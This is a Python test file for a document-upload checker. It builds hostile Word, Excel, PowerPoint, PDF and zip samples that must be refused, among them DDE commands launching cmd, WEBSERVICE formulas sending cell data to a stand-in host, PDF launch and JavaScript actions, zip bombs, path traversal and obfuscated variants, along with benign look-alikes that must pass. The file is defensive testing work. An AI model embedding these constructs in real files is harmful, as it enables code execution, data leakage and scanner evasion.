"""Hostile files are refused with a reason; what only looks like them is not."""

import io
import struct
import zipfile
import zlib
from typing import Any

import docx
import openpyxl
import pikepdf
import pptx
import pytest

from tests.workers.opening.files import (
    complex_field,
    field,
    packed,
    parts,
    plain,
    saved,
    suffix_of,
    with_body,
    with_formula,
    with_object,
    with_part,
    with_relationship,
    with_text,
)
from workers.opening import checks

Name, Array, Dictionary = pikepdf.Name, pikepdf.Array, pikepdf.Dictionary
JAVASCRIPT = Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
MIB = 1024 * 1024


def computed_field() -> bytes:
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{k}"/></w:r>' for k in ("begin", "end"))
    name = f"{begin}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>{end}"
    return with_body(f"<w:p>{begin}{name}<w:r><w:instrText> cmd</w:instrText></w:r>{end}</w:p>")


def twice() -> bytes:
    contents = parts(plain(".docx"))
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in contents.items():
            archive.writestr(name, content)
        archive.writestr("WORD/document.xml", contents["word/document.xml"])
    return file.getvalue()


def encrypted() -> bytes:
    """The flag alone: a reader would ask for a password."""
    file = bytearray(plain(".xlsx"))
    for header, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = file.find(header)
        file[at + offset] |= 1
    return bytes(file)


def lying() -> bytes:
    """A part that says it has ten bytes, and goes on for a million."""
    content, stated = b" " * MIB, b" " * 10
    deflate = zlib.compressobj(wbits=-15)
    body = deflate.compress(content) + deflate.flush()
    name = b"liar.xml"
    sizes = (zlib.crc32(stated), len(body), len(stated), len(name), 0)
    local = b"PK\x03\x04" + struct.pack("<5H3I2H", 20, 0, 8, 0, 33, *sizes) + name + body
    central = b"PK\x01\x02" + struct.pack("<6H3I2H", 20, 20, 0, 8, 0, 33, *sizes)
    central += struct.pack("<3H2I", 0, 0, 0, 0, 0) + name
    end = b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def linked() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        link = zipfile.ZipInfo("link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return file.getvalue()


def overlapping() -> bytes:
    """Two names in the directory for the same bytes."""
    file = bytearray(packed({"a.xml": b"<a/>", "b.xml": b"<b/>"}))
    second = file.rfind(b"PK\x01\x02")
    file[second + 42 : second + 46] = bytes(4)
    return bytes(file)


def directed_twice() -> bytes:
    """Two directories: a reader takes the one before the end, or the one that the end names."""
    honest, other = plain(".docx"), field("DDEAUTO cmd")
    size, start = struct.unpack("<2I", other[-10:-2])
    return other[:-22] + honest[:-22] + honest[-22:-10] + struct.pack("<2IH", size, start, 0)


def with_gap() -> bytes:
    """Bytes between the last part and the directory."""
    file = plain(".docx")
    (start,) = struct.unpack("<I", file[-6:-2])
    end = file[-22:-6] + struct.pack("<IH", start + 9, 0)
    return file[:start] + b"<script>\n" + file[start:-22] + end


class Pipe(io.RawIOBase):
    """What cannot go back, so that sizes are written behind what they measure."""

    def __init__(self) -> None:
        self.written = b""

    def writable(self) -> bool:
        return True

    def write(self, some: Any) -> int:
        self.written += bytes(some)
        return len(some)


def streamed() -> bytes:
    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as archive:  # type: ignore[call-overload]
        for name, content in parts(plain(".docx")).items():
            archive.writestr(name, content)
    return pipe.written


DECLARED = b"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\n"
TEMPLATE = (
    b'<Relationships><Relationship Id="a" Target="https://x.test/a.dotm" TargetMode="External" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    b"</Relationships>"
)


def undeclared(xml: bytes, space: bytes) -> bytes:
    """A Word document whose main part begins with white space."""
    contents = parts(with_body(xml.decode()))
    name = "word/document.xml"
    assert contents[name].startswith(DECLARED)
    return packed({**contents, name: space + contents[name].removeprefix(DECLARED)})


def renamed() -> bytes:
    """A name before the bytes that differs from the one in the directory."""
    file = packed({"a.xml": b"<a/>"})
    return file.replace(b"a.xml", b"b.xml", 1)


def many() -> bytes:
    return packed({f"{n}.xml": b"<a/>" for n in range(10_001)})


def noted(old: str, new: str, suffix: str = ".xlsx") -> bytes:
    return with_text(suffix, "[Content_Types].xml", old.encode(), new.encode())


def named_formula(name: str) -> bytes:
    from openpyxl import Workbook
    from openpyxl.workbook.defined_name import DefinedName

    book = Workbook()
    book.defined_names[name] = DefinedName(name, attr_text="Sheet!$A$1")
    return saved(book)


MAIN = "spreadsheetml.sheet.main+xml"
RULE = b'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>'
RULE += b"WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>"
DRAWN = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata {}/>'
DRAWN += "</v:shape></w:pict></w:r></w:p>"
COMMENTED = b"<f>WEB<!-- -->SERVICE(1)</f>"

HOSTILE = {
    "macros": (with_part(".xlsx", "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1"), "active_content"),
    "macro type": (noted(MAIN, "sheet.macroEnabled.main+xml"), "active_content"),
    "macro relationship": (
        with_relationship(".xlsx", "vbaProject", "vbaProject.bin", "Internal"),
        "active_content",
    ),
    "template": (noted(MAIN, "spreadsheetml.template.main+xml"), "wrong_type"),
    "program": (with_part(".xlsx", "xl/media/image1.png", b"MZ\x90\x00"), "active_content"),
    "linux program": (with_part(".xlsx", "xl/media/a.png", b"\x7fELF\x02"), "active_content"),
    "archive in it": (
        with_part(".xlsx", "xl/media/a.png", packed({"a": b"b"})),
        "active_content",
    ),
    "macros in an embedded book": (
        with_part(
            ".pptx",
            "ppt/embeddings/a.xlsx",
            with_part(".xlsx", "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
        ),
        "active_content",
    ),
    "books in books": (
        with_part(
            ".pptx",
            "ppt/embeddings/a.xlsx",
            with_part(".xlsx", "xl/embeddings/b.xlsx", plain(".xlsx")),
        ),
        "active_content",
    ),
    "external picture": (
        with_relationship(".docx", "image", "https://x.test/a.png"),
        "external_part",
    ),
    "external template": (
        with_relationship(".docx", "attachedTemplate", "https://x.test/a.dotm"),
        "active_content",
    ),
    "external object": (with_relationship(".docx", "oleObject", "file:///a"), "active_content"),
    "another book": (
        with_relationship(".xlsx", "externalLink", "externalLinks/a.xml", "Internal"),
        "active_content",
    ),
    "data connection": (
        with_relationship(".xlsx", "connections", "connections.xml", "Internal"),
        "active_content",
    ),
    "external film": (with_relationship(".pptx", "video", "https://x.test/a.mp4"), "external_part"),
    "embedded page": (
        with_relationship(".docx", "aFChunk", "a.html", "Internal"),
        "active_content",
    ),
    "file link": (with_relationship(".docx", "hyperlink", "file:///c:/a.exe"), "odd_link"),
    "share link": (with_relationship(".docx", "hyperlink", "\\\\host\\share"), "odd_link"),
    "script link": (with_relationship(".pptx", "hyperlink", "javascript:alert(1)"), "odd_link"),
    "protocol link": (with_relationship(".docx", "hyperlink", "ms-msdt:/id"), "odd_link"),
    "hidden share": (
        with_text(
            ".docx",
            "docProps/app.xml",
            b"</Properties>",
            b"<HyperlinkBase>\\\\host\\share</HyperlinkBase></Properties>",
        ),
        "odd_link",
    ),
    "document type": (
        with_part(".docx", "word/extra.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
        "odd_xml",
    ),
    "other encoding": (
        with_part(".docx", "word/extra.xml", '<?xml version="1.0"?><a/>'.encode("utf-16")),
        "odd_xml",
    ),
    "stated encoding": (
        with_part(".docx", "word/a.xml", b"<?xml version='1.0' encoding='UTF-7'?><a/>"),
        "odd_xml",
    ),
    "way out": (with_part(".xlsx", "../../evil.xml", b"<a/>"), "odd_name"),
    "absolute name": (with_part(".xlsx", "/etc/passwd", b"<a/>"), "odd_name"),
    "backslash": (with_part(".xlsx", "xl\\..\\a.xml", b"<a/>"), "odd_name"),
    "same name": (twice(), "same_name_twice"),
    "encrypted": (encrypted(), "encrypted"),
    "bomb": (with_part(".xlsx", "xl/media/a.bmp", bytes(64 * MIB)), "zip_bomb"),
    "lying bomb": (lying(), "zip_bomb"),
    "symlink": (linked(), "link"),
    "overlap": (overlapping(), "odd_zip"),
    "two names": (renamed(), "odd_zip"),
    "two directories": (directed_twice(), "odd_zip"),
    "a gap": (with_gap(), "odd_zip"),
    "white space first": (
        undeclared(b'<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>', b"\n" * 65),
        "reaching_field",
    ),
    "white space and a document type": (
        with_part(".docx", "word/a.xml", b" " * 65 + b"<!DOCTYPE a><a/>"),
        "odd_xml",
    ),
    "encoding far away": (
        with_part(".docx", "word/a.xml", b"<?xml" + b" " * 200 + b"encoding='UTF-7'?><a/>"),
        "odd_xml",
    ),
    "relationships in capitals": (
        with_part(".docx", "word/_rels/settings.xml.RELS", TEMPLATE),
        "active_content",
    ),
    "a sheet by the name of relationships": (
        with_part(".xlsx", "xl/sheet.rels", b"<worksheet><f>WEBSERVICE(1)</f></worksheet>"),
        "reaching_formula",
    ),
    "many parts": (many(), "too_many_parts"),
    "something before": (b"GIF89a" + plain(".xlsx"), "not_only_a_zip"),
    "something after": (plain(".xlsx") + b"<script>", "not_only_a_zip"),
    "no office": (packed({"a.txt": b"hello"}), "wrong_type"),
    "webservice": (with_formula('=WEBSERVICE("https://x.test/"&A1)'), "reaching_formula"),
    "new webservice": (with_formula('=_xlfn.WEBSERVICE("https://x.test")'), "reaching_formula"),
    "spaced": (with_formula("=webservice (A1)"), "reaching_formula"),
    "image": (with_formula('=_xlfn.IMAGE("https://x.test/"&A1)'), "reaching_formula"),
    "dde": (with_formula("=cmd|' /C calc'!A0"), "reaching_formula"),
    "quoted dde": (with_formula("='cmd'|'/C calc'!A0"), "reaching_formula"),
    "other book": (with_formula("=[Budget.xlsx]Sheet1!A1"), "reaching_formula"),
    "book on disk": (with_formula(r"='C:\a\[b.xlsx]S 1'!A1"), "reaching_formula"),
    "book by number": (with_formula("=SUM([1]Sheet1!A1:A9)"), "reaching_formula"),
    "call": (with_formula('=CALL("kernel32","WinExec","JCJ","calc",0)'), "reaching_formula"),
    "link in a formula": (with_formula('=HYPERLINK("file://host/a","x")'), "odd_link"),
    "in a rule": (
        with_text(".xlsx", "xl/worksheets/sheet1.xml", b"<pageMargins", RULE + b"<pageMargins"),
        "reaching_formula",
    ),
    "character references": (
        with_text(".xlsx", "xl/worksheets/sheet1.xml", b"SUM(", b"&#87;EBSERVICE("),
        "reaching_formula",
    ),
    "between comments": (
        with_text(".xlsx", "xl/worksheets/sheet1.xml", b"<f>SUM(B1:B1)</f>", COMMENTED),
        "reaching_formula",
    ),
    "in cdata": (
        with_text(".xlsx", "xl/worksheets/sheet1.xml", b"SUM(B1:B1)", b"<![CDATA[WEBSERVICE(1)]]>"),
        "reaching_formula",
    ),
    "runs by itself": (named_formula("Auto_Open"), "reaching_formula"),
    "formula behind an attribute": (
        with_text(
            ".xlsx",
            "xl/worksheets/sheet1.xml",
            b"<f>SUM(B1:B1)",
            b'<f xmlns:x="urn:>">WEBSERVICE("http://x.test/"&amp;A2)',
        ),
        "reaching_formula",
    ),
    "formula in pieces": (
        with_text(
            ".xlsx", "xl/worksheets/sheet1.xml", b"SUM(B1:B1)", b'WEB<x xmlns="urn:x"/>SERVICE(A1)'
        ),
        "reaching_formula",
    ),
    "field with two words": (
        with_body('<w:p><w:fldSimple xmlns:x="urn:x" x:instr="PAGE" w:instr="DDEAUTO cmd"/></w:p>'),
        "reaching_field",
    ),
    "bare field link": (field("HYPERLINK file:///c:/x.exe"), "odd_link"),
    "field link behind a remark": (
        field("HYPERLINK \\o &quot;tip&quot; &quot;file:///a&quot;"),
        "odd_link",
    ),
    "dde field": (field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "reaching_field"),
    "picture field": (field("INCLUDEPICTURE https://x.test/a.png"), "reaching_field"),
    "text field": (field("INCLUDETEXT file"), "reaching_field"),
    "field in pieces": (complex_field(" D", "DEAU", "TO cmd"), "reaching_field"),
    "computed field": (computed_field(), "reaching_field"),
    "field link": (field("HYPERLINK &quot;file:///a.exe&quot;"), "odd_link"),
    "drawn from elsewhere": (with_body(DRAWN.format('src="https://x.test/a"')), "external_part"),
    "slide action": (
        with_text(
            ".pptx",
            "ppt/slides/slide1.xml",
            b"<a:r>",
            b'<a:r><a:rPr><a:hlinkClick action="ppaction://program"/></a:rPr>',
        ),
        "active_content",
    ),
    "pdf javascript": (with_object({"/OpenAction": JAVASCRIPT}), "active_content"),
    "pdf named javascript": (
        with_object({"/Names": Dictionary(JavaScript=Dictionary(Names=Array([])))}),
        "active_content",
    ),
    "pdf page action": (with_object(page={"/AA": Dictionary(O=JAVASCRIPT)}), "active_content"),
    "pdf launch": (
        with_object({"/OpenAction": Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe"))}),
        "active_content",
    ),
    "pdf other file": (
        with_object({"/OpenAction": Dictionary(S=Name.GoToR, F=pikepdf.String("\\\\host\\a"))}),
        "active_content",
    ),
    "pdf sends": (
        with_object({"/OpenAction": Dictionary(Type=Name.Action, S=Name.SubmitForm)}),
        "active_content",
    ),
    "pdf xfa": (
        with_object({"/AcroForm": Dictionary(XFA=Array([]), Fields=Array([]))}),
        "active_content",
    ),
    "pdf film": (
        with_object(page={"/Annots": Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia)])}),
        "active_content",
    ),
    "pdf attachment": (
        with_object({"/AF": Array([Dictionary(EF=Dictionary(), F=pikepdf.String("a.exe"))])}),
        "active_content",
    ),
    "pdf two-named attachment": (
        with_object(
            {"/AF": Array([Dictionary(EF=Dictionary(), F="a.xml", UF=pikepdf.String("a.exe"))])}
        ),
        "active_content",
    ),
    "pdf link": (
        with_object({"/A": Dictionary(S=Name.URI, URI=pikepdf.String("file:///a"))}),
        "odd_link",
    ),
    "pdf base of links": (
        with_object({"/URI": Dictionary(Base=pikepdf.String("file:///C:/Windows/"))}),
        "odd_link",
    ),
    "pdf goes out by itself": (
        with_object({"/OpenAction": Dictionary(S=Name.URI, URI=pikepdf.String("https://x.test"))}),
        "active_content",
    ),
    "pdf thread elsewhere": (
        with_object({"/A": Dictionary(S=Name.Thread, F=pikepdf.String("\\\\host\\a.pdf"))}),
        "active_content",
    ),
    "pdf imports": (with_object({"/A": Dictionary(S=Name.ImportData)}), "active_content"),
    "pdf attachment for another system": (
        with_object(
            {"/AF": Array([Dictionary(EF=Dictionary(), F="a.xml", DOS=pikepdf.String("a.exe"))])}
        ),
        "active_content",
    ),
    "pdf before": (b"MZ" + plain(".pdf"), "not_only_a_pdf"),
    "pdf after": (plain(".pdf") + packed({"a": b"b"}), "not_only_a_pdf"),
}


LIBRARIES: dict[str, Any] = {
    ".xlsx": openpyxl.load_workbook,
    ".docx": docx.Document,
    ".pptx": pptx.Presentation,
}


@pytest.mark.parametrize(("file", "reason"), HOSTILE.values(), ids=HOSTILE.keys())
def test_what_could_harm_a_reader_is_refused(check: Any, file: bytes, reason: str):
    answer = check(file, suffix_of(file))

    assert answer.get("refused") == reason, answer
    found, _, instead = answer["message"].partition(". ")
    assert found
    assert instead, "it also says what to write instead"


@pytest.mark.parametrize(
    "name", ["macros", "another book", "file link", "dde", "webservice", "dde field", "bomb"]
)
def test_without_the_rules_the_libraries_open_it(name: str):
    """Or the test above would show that a broken file is refused."""
    file, _ = HOSTILE[name]

    assert LIBRARIES[suffix_of(file)](io.BytesIO(file))


def deck_with_chart() -> bytes:
    from pptx import Presentation
    from pptx.chart.data import CategoryChartData
    from pptx.enum.chart import XL_CHART_TYPE

    deck = Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    figures = CategoryChartData()
    figures.categories = ["a"]
    figures.add_series("s", (1,))
    slide.shapes.add_chart(XL_CHART_TYPE.PIE, 0, 0, 900, 900, figures)
    file = io.BytesIO()
    deck.save(file)
    return file.getvalue()


def book_with_links() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"].hyperlink = "https://example.com/?a=1|2!3"
    book.active["A2"].hyperlink = "#Sheet!B2"
    book.active["A3"].hyperlink = "mailto:ada@example.com"
    book.active["A4"].value = '=HYPERLINK("#Sheet!A1", "up")'
    return saved(book)


def book_with_comment() -> bytes:
    from openpyxl import Workbook
    from openpyxl.comments import Comment

    book = Workbook()
    book.active["A1"].comment = Comment("A remark", "Ada")
    return saved(book)


def button(*choices: str) -> bytes:
    file = io.BytesIO()
    with pikepdf.open(io.BytesIO(plain(".pdf"))) as pdf:
        looks = {choice: pdf.make_stream(b"") for choice in choices}
        pdf.Root["/AP"] = Dictionary(N=Dictionary(looks))
        pdf.save(file)

    return file.getvalue()


FORMULAS = (
    "=Table1[Amount]*2",
    "=Table1[Amount]-Sheet2!A1",
    "=Table1[Amount]^'My Sheet'!A1",
    "=SUM(Table1[[#This Row],[Amount]])",
    '=SUMIF(A:A,"a|b!c",B:B)',
    '="[x]y!z"&A1',
    '=IF(A1<>0,A2/A1,"WEBSERVICE(x)")',
    "='My Sheet'!A1",
    "='Image (2)'!A1+'Dry Run (2024)'!B2",
    "=RUNNING_TOTAL+CALLS",
    "=_xlfn.XLOOKUP(A1,B:B,C:C)",
    "=_xlfn.SINGLE(A1)",
)
BENIGN = {
    **{f"plain {suffix}": (plain(suffix), suffix) for suffix in checks.FORMATS},
    **{formula: (with_formula(formula), ".xlsx") for formula in FORMULAS},
    "text that begins like one": (
        with_text(".xlsx", "xl/worksheets/sheet1.xml", b"SUM(B1:B1)", b"LEN(&quot;=cmd|a!b&quot;)"),
        ".xlsx",
    ),
    "chart with its book": (deck_with_chart(), ".pptx"),
    "links": (book_with_links(), ".xlsx"),
    "white space first": (undeclared(b"<w:p/>", b"\n" * 65), ".docx"),
    "sizes behind the parts": (streamed(), ".docx"),
    "a remark": (book_with_comment(), ".xlsx"),
    "a web link": (with_relationship(".docx", "hyperlink", "https://x.test/?a=b"), ".docx"),
    "a picture inside": (
        with_relationship(".docx", "image", "../docProps/thumbnail.jpeg", "Internal"),
        ".docx",
    ),
    "page numbers": (field("PAGE \\* MERGEFORMAT"), ".docx"),
    "contents": (complex_field(' TOC \\o "1-3"', " \\h \\z \\u "), ".docx"),
    "field link": (field("HYPERLINK &quot;https://x.test&quot;"), ".docx"),
    "field link within": (field("HYPERLINK \\l &quot;_Toc1&quot; \\o &quot;c:/x&quot;"), ".docx"),
    "drawing": (with_body(DRAWN.format('title="x"')), ".docx"),
    "slide link": (
        with_text(
            ".pptx",
            "ppt/slides/slide1.xml",
            b"<a:r>",
            b'<a:r><a:rPr><a:hlinkClick action="ppaction://hlinksldjump"/></a:rPr>',
        ),
        ".pptx",
    ),
    "well packed": (with_part(".xlsx", "xl/media/a.bmp", bytes(8 * MIB)), ".xlsx"),
    "pdf view": (with_object({"/OpenAction": Array([0, Name.FitH, 0])}), ".pdf"),
    "pdf link": (
        with_object(
            page={
                "/Annots": Array(
                    [
                        Dictionary(
                            Type=Name.Annot,
                            Subtype=Name.Link,
                            Rect=Array([0, 0, 1, 1]),
                            A=Dictionary(S=Name.URI, URI=pikepdf.String("https://x.test")),
                        )
                    ]
                )
            }
        ),
        ".pdf",
    ),
    "pdf invoice": (
        with_object({"/AF": Array([Dictionary(EF=Dictionary(), F=pikepdf.String("a.xml"))])}),
        ".pdf",
    ),
    "pdf form": (with_object({"/AcroForm": Dictionary(Fields=Array([]))}), ".pdf"),
    "pdf button called JS": (button("/JS", "/JavaScript"), ".pdf"),
    "pdf structure": (with_object({"/X": Dictionary(S=Name.Sect, K=Array([]))}), ".pdf"),
}


@pytest.mark.parametrize(("file", "suffix"), BENIGN.values(), ids=BENIGN.keys())
def test_what_only_looks_like_it_passes(check: Any, file: bytes, suffix: str):
    assert "facts" in check(file, suffix)


def opens(check: Any, file: bytes, suffix: str) -> bool:
    try:
        return "facts" in check(file, suffix)
    except Exception:  # each library has its own
        return False


@pytest.mark.parametrize("suffix", checks.FORMATS)
def test_a_part_of_a_file_is_none(check: Any, suffix: str):
    file = plain(suffix)

    assert opens(check, file, suffix)
    assert not any(opens(check, file[:left], suffix) for left in (0, 1, 100, len(file) // 2, -4))


@pytest.mark.parametrize("suffix", checks.FORMATS)
def test_each_format_refuses_the_others(check: Any, suffix: str):
    others = set(checks.FORMATS) - {suffix}

    assert not any(opens(check, plain(other), suffix) for other in others)


def test_a_password_is_named(check: Any):
    file = io.BytesIO()
    with pikepdf.open(io.BytesIO(plain(".pdf"))) as pdf:
        pdf.save(file, encryption=pikepdf.Encryption(user="secret", owner="secret"))

    assert check(file.getvalue(), ".pdf")["refused"] == "encrypted"
